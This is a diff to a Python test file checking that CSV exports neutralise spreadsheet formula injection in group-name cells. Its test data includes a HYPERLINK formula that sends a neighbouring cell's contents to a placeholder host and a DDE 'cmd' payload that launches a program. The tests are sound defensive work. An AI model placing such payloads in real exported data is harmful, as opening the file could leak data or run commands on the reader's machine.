@@ -58,7 +58,36 @@ def test_any_text_and_float_is_read_as_it_was(tmp_path_factory: Any, rows: list[
         write(folder, type=kind, rows=finite)
         with (folder / f"37/total.{kind}").open(newline="", encoding="utf-8") as file:
             found = list(csv.DictReader(file)) if kind == "csv" else json.load(file)
-        assert [(row["sex"], float(row["total"])) for row in found] == finite
+        kept = [row for row in zip(found, finite, strict=True) if kind == "json" or row[1][0][:1] not in FORMULA_SIGNS]
+        assert all((row["sex"], float(row["total"])) == given for row, given in kept)
+
+
+FORMULA_SIGNS = ("=", "@", "+", "-")
+
+
+@pytest.mark.parametrize(
+    ("text", "is_formula"),
+    [
+        ('=HYPERLINK("http://x/?"&B2)', True),
+        ("=1+1", True),
+        ("@SUM(A1)", True),
+        ("-2+3+cmd|' /C calc'!A0", True),
+        ("+A1\n(B2)", True),
+        ("-1001", False),
+        ("-1.5", False),
+        ("+86 10 1234", False),
+        ("-", False),
+        ("a=1", False),
+        ("<30 (low)", False),
+    ],
+)
+def test_a_formula_is_a_text_in_a_spreadsheet(tmp_path: Path, text: str, is_formula: bool) -> None:
+    """Another hospital names its groups, and a spreadsheet would run the name."""
+    for kind in ("csv", "json"):
+        write(tmp_path, type=kind, columns=["sex", "total"], rows=[[text, 1]])
+        (row,) = read_result(tmp_path, 37).rows()
+        assert row["sex"] == ("'" if is_formula and kind == "csv" else "") + text
+        (tmp_path / f"37/total.{kind}").unlink()
 
 
 @pytest.mark.parametrize("cell", [float("nan"), float("inf"), Decimal("NaN"), True, b"x", [1]])
